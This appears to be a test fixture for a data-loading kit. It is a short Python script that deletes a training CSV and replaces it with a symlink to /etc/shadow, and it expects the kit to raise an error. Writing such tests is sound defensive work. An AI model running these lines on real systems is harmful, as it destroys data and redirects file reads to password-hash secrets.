"""Puts links in place of its data: to secrets of the machine that reads them.

Outcome: kit_error. Where they are followed, there is nothing at their ends.
Says: get_train_data fails
"""

import os

os.remove("data/train.csv")
os.symlink("/etc/shadow", "data/train.csv")
